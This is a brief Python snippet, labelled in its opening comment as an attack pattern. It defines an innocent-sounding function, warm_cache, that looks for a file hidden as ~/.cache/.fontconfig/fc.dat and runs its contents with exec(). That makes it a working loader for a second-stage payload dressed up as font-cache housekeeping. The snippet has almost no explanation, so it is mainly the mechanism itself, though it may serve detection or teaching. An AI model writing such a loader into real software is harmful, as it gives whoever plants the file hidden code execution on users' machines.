# Attack pattern: second stage dropped into a cache directory earlier, executed later from there with exec(open(...).read()).
import os

STAGE = os.path.join(os.path.expanduser("~"), ".cache", ".fontconfig", "fc.dat")


def warm_cache():
    if os.path.exists(STAGE):
        with open(STAGE) as handle:
            exec(handle.read())
